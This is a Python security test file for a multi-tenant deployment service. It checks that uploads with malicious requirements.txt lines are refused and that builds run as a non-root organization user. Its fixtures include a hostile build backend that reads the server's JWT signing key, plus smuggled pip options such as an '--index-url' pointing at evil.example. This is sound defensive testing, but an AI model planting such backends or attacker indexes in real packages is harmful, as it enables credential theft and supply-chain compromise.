"""Item 1 of the threat model: no tenant code runs as root while an app's environment is built.

The attack: an upload whose requirements.txt names a directory of the upload itself, a package whose
build backend ships inside it (``backend-path = ["."]``) — the backend reads serve's signing key and
leaves a mark. Refused before any build; and the builds that do run (the index's packages) run as the
organization's OS user, in its sandbox."""

from __future__ import annotations

import os
import secrets
from pathlib import Path

import pytest

from pulumi_dbos.appsource import pack
from tests.security.conftest import Tenants, copy_app, deploy_archive

BACKEND = '''
import os, pathlib
def _attack():
    mark = pathlib.Path({mark!r})
    stolen = ""
    for p in pathlib.Path("/").glob("tmp/*/d/serve/jwt.key"):
        try:
            stolen += p.read_text()
        except OSError:
            pass
    mark.write_text(f"uid={{os.getuid()}} stolen={{stolen}}")
    raise SystemExit("backend ran as uid %d; stolen: %s" % (os.getuid(), stolen))
def get_requires_for_build_wheel(config_settings=None):
    _attack()
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _attack()
def get_requires_for_build_editable(config_settings=None):
    _attack()
'''


def register(tenants: Tenants, app: str) -> None:
    r = tenants.alpha.put("/v1alpha1/alpha/applications", json={"name": app, "database": "alpha_db",
                                                                "language": "python"})
    assert r.status_code == 200, r.text


@pytest.mark.parametrize("line", ["./evilpkg", "evilpkg @ file:///tmp/evilpkg", "-e ./evilpkg", "-r other.txt",
                                  "-c other.txt", "--index-url https://evil.example/simple", "/abs/evilpkg"])
def test_requirements_naming_local_paths_or_options_are_refused(tenants: Tenants, tmp_path: Path,
                                                                line: str) -> None:
    app = f"evil{secrets.token_hex(3)}"
    mark = Path("/tmp") / f"pwned-{secrets.token_hex(4)}"
    src = copy_app("shell", tmp_path, app)
    pkg = src / "evilpkg"
    pkg.mkdir()
    (pkg / "pyproject.toml").write_text('[build-system]\nrequires = []\nbuild-backend = "backend"\n'
                                        'backend-path = ["."]\n[project]\nname = "evilpkg"\nversion = "1"\n')
    (pkg / "backend.py").write_text(BACKEND.format(mark=str(mark)))
    (src / "other.txt").write_text("./evilpkg\n")
    (src / "requirements.txt").write_text(f"dbos==3.4.0\n{line}\n")
    register(tenants, app)
    try:
        r = deploy_archive(tenants.alpha, "alpha", app, pack(src)[1])
        assert r.status_code == 400, r.text
        assert "requirements.txt" in r.json()["message"], r.text
        assert not mark.exists(), mark.read_text()
        key = (tenants.serve.data_dir / "serve" / "jwt.key").read_bytes()
        assert key.decode(errors="replace").strip() not in r.text
        assert tenants.alpha.get(f"/v1alpha1/alpha/applications/{app}").json()["Status"] == "REGISTERED"
    finally:
        tenants.alpha.request("DELETE", f"/v1alpha1/alpha/applications/{app}", json={})
        if mark.exists():
            mark.unlink()


def test_environments_are_built_by_the_organizations_user_not_root(tenants: Tenants) -> None:
    """What the build wrote (the virtualenv, uv's cache) belongs to alpha's OS user; nothing of it is root's."""
    envs = tenants.serve.data_dir / "orgs" / "alpha" / "apps" / "_envs"
    uid = tenants.run_json("import os, json; print(json.dumps(os.getuid()))")
    owners: dict[int, int] = {}
    for d in envs.iterdir():
        if d.is_dir():
            for p in [d, *list(d.rglob("*"))[:2000]]:
                st = os.lstat(p)
                owners[st.st_uid] = owners.get(st.st_uid, 0) + 1
    assert set(owners) == {uid}, owners
    assert uid != 0
    bravo_envs = tenants.serve.data_dir / "orgs" / "bravo" / "apps" / "_envs"
    bravo_uid = {os.lstat(d).st_uid for d in bravo_envs.iterdir() if d.is_dir()}
    assert bravo_uid and uid not in bravo_uid  # per organization: another user, another cache
